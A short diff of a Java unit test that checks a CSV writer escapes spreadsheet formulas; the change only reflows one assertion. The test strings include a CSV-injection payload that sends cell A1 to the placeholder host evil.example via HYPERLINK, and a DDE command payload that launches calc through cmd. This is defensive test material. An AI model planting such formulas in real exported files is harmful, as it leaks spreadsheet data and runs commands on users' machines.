@@ -8,7 +8,8 @@ class CsvWriterTest {
 
     @Test
     void formulasAreMadeInert() {
-        assertEquals("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"pay\"\")\"",
+        assertEquals(
+                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"pay\"\")\"",
                 CsvWriter.cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"pay\")"));
         assertEquals("\"'+1+1\"", CsvWriter.cell("+1+1"));
         assertEquals("\"'-2+3+cmd|' /C calc'!A0\"", CsvWriter.cell("-2+3+cmd|' /C calc'!A0"));
